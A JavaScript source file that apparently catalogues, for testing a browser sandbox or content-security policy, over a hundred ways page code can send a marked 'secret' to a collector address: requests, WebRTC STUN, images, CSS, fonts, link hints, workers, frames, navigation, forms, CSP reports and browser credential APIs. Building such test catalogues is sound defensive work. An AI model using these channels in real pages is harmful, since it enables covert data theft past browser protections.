// The known ways to get data out of a web page. Each is a function that runs in the page with the place to send to,
// `{ out, own, name, stun }`: an address of the collector, the folder of the page on its own host, an address under a name
// that must be looked up, the collector's STUN server; and with helpers. "secret" becomes the vector's mark.

/** Runs in the page beside the vector. */
export const HELPERS = `({
  put(name, properties = {}, parent = document.body) {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(properties)) {
      if (key in element && !key.includes('-')) element[key] = value;
      else element.setAttribute(key, value);
    }
    parent?.append(element);
    return element;
  },
  link(properties) { return this.put('link', properties, document.head); },
  style(css) { return this.put('style', { textContent: css }, document.head); },
  svg(name, attributes = {}, parent = document.body) {
    const element = document.createElementNS('http://www.w3.org/2000/svg', name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    parent?.append(element);
    return element;
  },
  blob(text, type = 'text/javascript') { return URL.createObjectURL(new Blob([text], { type })); },
})`;

/** By name. */
export const VECTORS = {
  // Requests
  'fetch': ({ out }) => fetch(out),
  'fetch, opaque, kept alive': ({ out }) => fetch(out, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }),
  'fetch of a Request': ({ out }) => fetch(new Request(out, { mode: 'no-cors' })),
  'fetchLater': ({ out }) => fetchLater(out, { activateAfter: 0 }),
  'XMLHttpRequest': ({ out }) => {
    const request = new XMLHttpRequest();
    request.open('GET', out);
    request.send();
  },
  'XMLHttpRequest, synchronous': ({ out }) => {
    const request = new XMLHttpRequest();
    request.open('POST', out, false);
    request.send('secret');
  },
  'sendBeacon': ({ out }) => navigator.sendBeacon(out, 'secret'),
  'WebSocket': ({ out }) => void new WebSocket(out.replace('http', 'ws')),
  'WebSocketStream': ({ out }) => void new WebSocketStream(out.replace('http', 'ws')),
  'EventSource': ({ out }) => void new EventSource(out),
  'WebTransport': ({ out }) => void new WebTransport(out.replace('http', 'https')).ready.catch(() => {}),
  'cache.add': async ({ out }) => (await caches.open('x')).add(new Request(out, { mode: 'no-cors' })),
  'WebAssembly.compileStreaming': ({ out }) => WebAssembly.compileStreaming(fetch(out)),
  'WebRTC with STUN': async ({ stun }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'WebRTC by its old name': async ({ stun }) => {
    const peer = new webkitRTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },

  // Pictures, films, styles, fonts
  'image': ({ out }, { put }) => put('img', { src: out }),
  'image, never in the page': ({ out }) => void (new Image().src = out),
  'image srcset': ({ out }, { put }) => put('img', { srcset: `${out} 1x` }),
  'picture source': ({ out }, { put }) => put('img', {}, put('picture', {})).before(put('source', { srcset: out })),
  'video': ({ out }, { put }) => put('video', { src: out, preload: 'auto' }),
  'video poster': ({ out }, { put }) => put('video', { poster: out }),
  'video source': ({ out }, { put }) => put('source', { src: out }, put('video', { preload: 'auto' })),
  'audio': ({ out }, { put }) => put('audio', { src: out, preload: 'auto' }),
  'text track': ({ out }, { put, blob }) => {
    const video = put('video', { crossOrigin: 'anonymous', src: blob('', 'video/mp4') });
    put('track', { src: out, default: true, kind: 'subtitles' }, video).track.mode = 'showing';
  },
  'image button': ({ out }, { put }) => put('input', { type: 'image', src: out }),
  'background attribute': ({ out }, { put }) => put('table', { background: out }),
  'svg image': ({ out }, helpers) => helpers.svg('image', { href: out, width: 9, height: 9 }, helpers.svg('svg')),
  'svg use': ({ own }, helpers) => helpers.svg('use', { href: `${own}?secret#x` }, helpers.svg('svg')),
  'svg filter image': ({ out }, helpers) => {
    const svg = helpers.svg('svg');
    helpers.svg('feImage', { href: out }, helpers.svg('filter', { id: 'leak' }, svg));
    helpers.svg('rect', { width: 9, height: 9, filter: 'url(#leak)' }, svg);
  },
  'style background': ({ out }, { put }) => void (put('div').style.background = `url("${out}")`),
  'style attribute': ({ out }, { put }) => put('div', {}).setAttribute('style', `background: url("${out}")`),
  'style sheet import': ({ out }, helpers) => helpers.style(`@import "${out}";`),
  'style sheet rule': ({ out }, helpers) => helpers.style(`body { background: image-set("${out}" 1x) }`),
  'style cursor': ({ out }, { put }) => void (put('div').style.cursor = `url("${out}"), auto`),
  'style list marker': ({ out }, { put }) => void (put('li').style.listStyleImage = `url("${out}")`),
  'style border image': ({ out }, { put }) => void (put('div').style.borderImage = `url("${out}") 1 / 9px`),
  'style mask': ({ out }, { put }) => void (put('div').style.mask = `url("${out}#x")`),
  'style in content': ({ out }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body::after { content: url("${out}") }`);
    document.adoptedStyleSheets.push(sheet);
  },
  'font face': ({ out }, helpers) => {
    helpers.style(`@font-face { font-family: leak; src: url("${out}") }`);
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`@font-face { font-family: leak2; src: url("${out}") }`);
    document.adoptedStyleSheets.push(sheet);
    for (const font of ['leak', 'leak2']) helpers.put('p', { textContent: 'x' }).style.fontFamily = font;
  },
  'FontFace': ({ out }) => new FontFace('leak3', `url("${out}")`).load(),

  // Links of the head
  'link stylesheet': ({ out }, helpers) => helpers.link({ rel: 'stylesheet', href: out }),
  'link prefetch': ({ out }, helpers) => helpers.link({ rel: 'prefetch', href: out }),
  'link prerender': ({ out }, helpers) => helpers.link({ rel: 'prerender', href: out }),
  'link preload': ({ out }, helpers) => helpers.link({ rel: 'preload', as: 'image', href: out }),
  'link modulepreload': ({ out }, helpers) => helpers.link({ rel: 'modulepreload', href: out }),
  'link preconnect': ({ out }, helpers) => helpers.link({ rel: 'preconnect', href: out }),
  'link dns-prefetch': ({ name }, helpers) => helpers.link({ rel: 'dns-prefetch', href: name }),
  'link icon': ({ out }, helpers) => helpers.link({ rel: 'icon', href: out }),
  'link manifest': ({ out }, helpers) => helpers.link({ rel: 'manifest', href: out }),
  'link by attributes': ({ out }, helpers) => {
    const link = helpers.link({});
    link.setAttribute('href', out);
    link.relList.add('preconnect');
  },
  'link made with a namespace': ({ out }) => {
    const link = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:link');
    link.setAttributeNS(null, 'rel', 'preconnect');
    link.href = out;
    document.head.append(link);
  },
  'link of another document': ({ out }) => {
    const link = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link').documentElement;
    link.rel = 'preconnect';
    link.href = out;
    document.head.append(document.adoptNode(link));
  },
  'link that is there': ({ out }) => Object.assign(document.querySelector('link'), { href: out, rel: 'preconnect' }),
  'link that is there, cloned': ({ out }) => {
    const link = document.querySelector('link').cloneNode();
    link.getAttributeNode('rel').value = 'preconnect';
    link.attributes.href.nodeValue = out;
    document.head.append(link);
  },
  'link that may be looked up ahead': ({ name }, { put }) => {
    put('a', { href: name, textContent: 'x' });
    put('meta', { httpEquiv: 'x-dns-prefetch-control', content: 'on' }, document.head);
    put('a', { href: name, textContent: 'x' });
  },

  // Scripts and workers
  'script': ({ out }, { put }) => put('script', { src: out }),
  'script inline': ({ out }, { put }) => put('script', { textContent: `fetch("${out}")` }),
  'script module': ({ out }, { put }) => put('script', { type: 'module', src: out }),
  'import': ({ out }) => import(out),
  'eval': ({ out }) => (0, eval)(`fetch("${out}")`),
  'event handler attribute': ({ out }, { put }) => put('button', {}).setAttribute('onclick', `fetch("${out}")`) ?? document.body.lastChild.click(),
  'speculation rules': ({ out }, { put }) =>
    put('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [out] }], prerender: [{ urls: [out] }] }) }),
  'worker of a blob': ({ out }, { blob }) => void new Worker(blob(`fetch("${out}", { mode: "no-cors" })`)),
  'worker of a blob with a socket': ({ out }, { blob }) => void new Worker(blob(`new WebSocket("${out}".replace("http", "ws"))`)),
  'worker of a blob that imports': ({ out }, { blob }) => void new Worker(blob(`importScripts("${out}")`)),
  'worker of a blob that starts one of a file': ({ own }, { blob }) => void new Worker(blob(`new Worker("${own}harmless.js?secret")`)),
  'worker of a file': ({ own }) => void new Worker(`${own}harmless.js?secret`),
  'shared worker': ({ own }) => void new SharedWorker(`${own}harmless.js?secret`),
  'service worker': ({ own }) => navigator.serviceWorker.register(`${own}harmless.js?secret`),
  'audio worklet': ({ out }) => new AudioContext().audioWorklet.addModule(out),
  'paint worklet': ({ out }) => CSS.paintWorklet.addModule(out),
  'XSLT': ({ own }) => {
    const sheet = document.implementation.createDocument('http://www.w3.org/1999/XSL/Transform', 'xsl:stylesheet');
    const make = (name, attributes) => {
      const element = sheet.createElementNS('http://www.w3.org/1999/XSL/Transform', `xsl:${name}`);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      return element;
    };
    sheet.documentElement.setAttribute('version', '1.0');
    sheet.documentElement.append(make('import', { href: `${own}harmless.xsl?secret` }));
    const processor = new XSLTProcessor();
    processor.importStylesheet(sheet);
    processor.transformToFragment(sheet, document);
  },

  // Frames
  'iframe': ({ out }, { put }) => put('iframe', { src: out }),
  'iframe with a document': ({ out }, { put }) => put('iframe', { srcdoc: `<img src="${out}">` }),
  'iframe, empty, and its window': ({ stun, out }, { put }) => {
    const { contentWindow } = put('iframe');
    contentWindow.fetch(out, { mode: 'no-cors' }).catch(() => {});
    const peer = new contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] });
    peer.createDataChannel('x');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  'iframe made with a namespace': ({ out }) => {
    const frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe');
    frame.src = out;
    document.body.append(frame);
  },
  'iframe of another document': ({ out }) => {
    const frame = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe').documentElement;
    frame.src = out;
    document.body.append(document.adoptNode(frame));
  },
  'iframe by its class': ({ out }) => {
    customElements.define('x-leak', class extends HTMLIFrameElement {}, { extends: 'iframe' });
    const frame = new (customElements.get('x-leak'))();
    frame.src = out;
    document.body.append(frame);
  },
  'frame': ({ out }, { put }) => put('frame', { src: out }, put('frameset')),
  'object': ({ out }, { put }) => put('object', { data: out }),
  'embed': ({ out }, { put }) => put('embed', { src: out }),

  // Markup
  'document.write': ({ out }) => document.write(`<img src="${out}">`),
  'innerHTML': ({ out }, { put }) => void (put('div').innerHTML = `<img src="${out}"><link rel="preconnect" href="${out}">`),
  'insertAdjacentHTML': ({ out }) => document.body.insertAdjacentHTML('beforeend', `<iframe src="${out}"></iframe>`),
  'DOMParser': ({ out }) =>
    document.head.append(document.adoptNode(new DOMParser().parseFromString(`<link rel="preconnect" href="${out}">`, 'text/html').head.firstChild)),
  'fragment of a range': ({ out }) =>
    document.head.append(document.createRange().createContextualFragment(`<link rel="preconnect" href="${out}">`)),
  'setHTMLUnsafe': ({ out }, { put }) => put('div').setHTMLUnsafe(`<link rel="preconnect" href="${out}">`),
  'setHTML': ({ out }, { put }) => {
    const box = put('div');
    box.setHTML(`<a href="${out}" target="_blank">x</a>`);
    box.firstChild.click();
  },
  'base': ({ out }, { put }) => {
    put('base', { href: out }, document.head);
    put('img', { src: 'pixel?secret' });
  },
  'policy with a report address': ({ out }, { put }) => {
    put('meta', { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${out}` }, document.head);
    put('img', { src: 'pixel?secret' });
  },

  // Navigation
  'location': ({ out }) => void (location = out),
  'location.replace': ({ out }) => location.replace(out),
  'location.search': () => void (location.search = '?secret'),
  'navigation.navigate': ({ out }) => void navigation.navigate(out).committed.catch(() => {}),
  'history, then reload': () => {
    history.pushState(null, '', '?secret');
    location.reload();
  },
  'meta refresh': ({ out }, { put }) => put('meta', { httpEquiv: 'refresh', content: `0;url=${out}` }, document.head),
  'javascript address': ({ out }) => void (location = `javascript:void fetch("${out}")`),
  'window.open': ({ out }) => void open(out),
  'window.open of the own host': ({ own }) => void open(`${own}harmless.html?secret`),
  'document.open of a window': ({ out }) => void document.open(out, '', 'popup'),
  'link of the page': ({ out }, { put }) => put('a', { href: out }).click(),
  'link to a new window': ({ out }, { put }) => put('a', { href: out, target: '_blank' }).click(),
  'link with a ping': ({ out }, { put }) => put('a', { href: '#', ping: out }).click(),
  'link with a referrer': ({ own }, { put }) => put('a', { href: `${own}?secret`, target: 'other' }).click(),
  'link in no document': ({ out }, { put }) => put('a', { href: out, target: '_blank' }, null).click(),
  'link in no document, by an event': ({ out }, { put }) =>
    put('a', { href: out, target: '_blank' }, null).dispatchEvent(new MouseEvent('click', { ctrlKey: true })),
  'link in a shadow tree': ({ out }, { put }) => {
    const root = put('div').attachShadow({ mode: 'closed' });
    put('b', {}, put('a', { href: out, target: '_blank' }, root)).dispatchEvent(new MouseEvent('click', { bubbles: true }));
  },
  'link that downloads': ({ out }, { put }) => put('a', { href: out, download: 'x' }).click(),
  'link of svg': ({ out }, helpers) => {
    const link = helpers.svg('a', { href: out, target: '_blank' }, helpers.svg('svg'));
    link.dispatchEvent(new MouseEvent('click', { bubbles: true }));
  },
  'link of an image map': ({ out }, { put }) => {
    put('map', { name: 'leak' });
    put('img', { useMap: '#leak', src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' });
    put('area', { href: out, target: '_blank', shape: 'default' }, document.querySelector('map[name=leak]')).click();
  },
  'form': ({ out }, { put }) => put('form', { action: out }).submit(),
  'form that posts': ({ out }, { put }) => put('form', { action: out, method: 'post' }).requestSubmit(),
  'form to a new window': ({ out }, { put }) => put('form', { action: out, target: '_blank' }).submit(),
  'form to the own host': ({ own }, { put }) => {
    const form = put('form', { action: own, method: 'get' });
    put('input', { name: 'secret', value: '1' }, form);
    put('button', {}, form).click();
  },

  // To the own host
  'own host, fetch': ({ own }) => fetch(`${own}?secret`),
  'own host, beacon': ({ own }) => navigator.sendBeacon(`${own}?secret`, 'x'),
  'own host, image': ({ own }, { put }) => put('img', { src: `${own}?secret` }),
  'own host, style sheet': ({ own }, helpers) => helpers.link({ rel: 'stylesheet', href: `${own}style.css?secret` }),
  'own host, script': ({ own }) => import(`${own}harmless.js?secret`),

  // Services of the browser
  'payment': ({ out }) => new PaymentRequest([{ supportedMethods: out.replace('http', 'https') }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
  'sign-in': ({ out }) => navigator.credentials.get({ identity: { providers: [{ configURL: out, clientId: 'x' }] } }),
  'pass key of another host': ({ out }) =>
    navigator.credentials.create({
      publicKey: {
        challenge: new Uint8Array(9), rp: { name: 'x', id: new URL(out).hostname },
        user: { id: new Uint8Array(9), name: 'x', displayName: 'x' }, pubKeyCredParams: [{ type: 'public-key', alg: -7 }],
      },
    }),
  'notification': ({ out }) => void new Notification('x', { icon: out }),
  'presentation': ({ out }) => new PresentationRequest([out]).getAvailability(),
};
